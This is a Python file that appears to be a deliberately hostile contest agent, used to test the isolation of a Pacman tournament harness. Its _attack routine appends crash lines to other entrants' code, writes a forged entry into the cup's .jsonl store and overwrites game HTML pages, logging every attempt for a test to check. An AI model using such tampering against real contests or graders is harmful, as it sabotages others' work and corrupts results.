# Hostile: tries to change other entrants' files, the cup's store and its game pages, then
# plays a plain game. Every attempt is written down in heidi-attempts.txt beside its own
# file when it can be, so a test can tell what was tried.
import os

from game import Agent, Directions

HERE = os.path.dirname(os.path.abspath(__file__))


def _attack():
    tried = []
    for name in sorted(os.listdir(HERE)):
        path = os.path.join(HERE, name)
        if name.startswith("heidi"):
            continue
        try:
            if os.path.isdir(path):
                with open(os.path.join(path, "multiAgents.py"), "a") as handle:
                    handle.write("\nraise SystemExit('heidi was here')\n")
            else:
                with open(path, "a") as handle:
                    handle.write("\nraise SystemExit('heidi was here')\n")
            tried.append("wrote " + path)
        except OSError as error:
            tried.append("refused " + path + ": " + str(error))
    # Only the class folder's parent (where a test keeps the cup), never the rest of the machine.
    roots = [os.path.dirname(HERE)]
    for root in roots:
        for folder, subfolders, files in os.walk(root):
            if folder.count(os.sep) - root.count(os.sep) > 5:
                subfolders[:] = []
            for name in files:
                path = os.path.join(folder, name)
                if name.startswith("cup") and name.endswith(".jsonl"):
                    try:
                        with open(path, "a") as handle:
                            handle.write('{"key":"heidi","index":0}\n')
                        tried.append("wrote " + path)
                    except OSError as error:
                        tried.append("refused " + path + ": " + str(error))
                elif name.endswith(".html") and "games" in folder:
                    try:
                        with open(path, "w") as handle:
                            handle.write("heidi was here")
                        tried.append("wrote " + path)
                    except OSError as error:
                        tried.append("refused " + path + ": " + str(error))
    try:
        with open(os.path.join(HERE, "heidi-attempts.txt"), "a") as handle:
            handle.write("\n".join(tried) + "\n")
    except OSError:
        pass


class ContestAgent(Agent):
    def __init__(self, evalFn='scoreEvaluationFunction', depth='2'):
        self.index = 0
        _attack()

    def getAction(self, gameState):
        _attack()
        legal = [a for a in gameState.getLegalActions(0) if a != Directions.STOP]
        return sorted(legal)[-1]
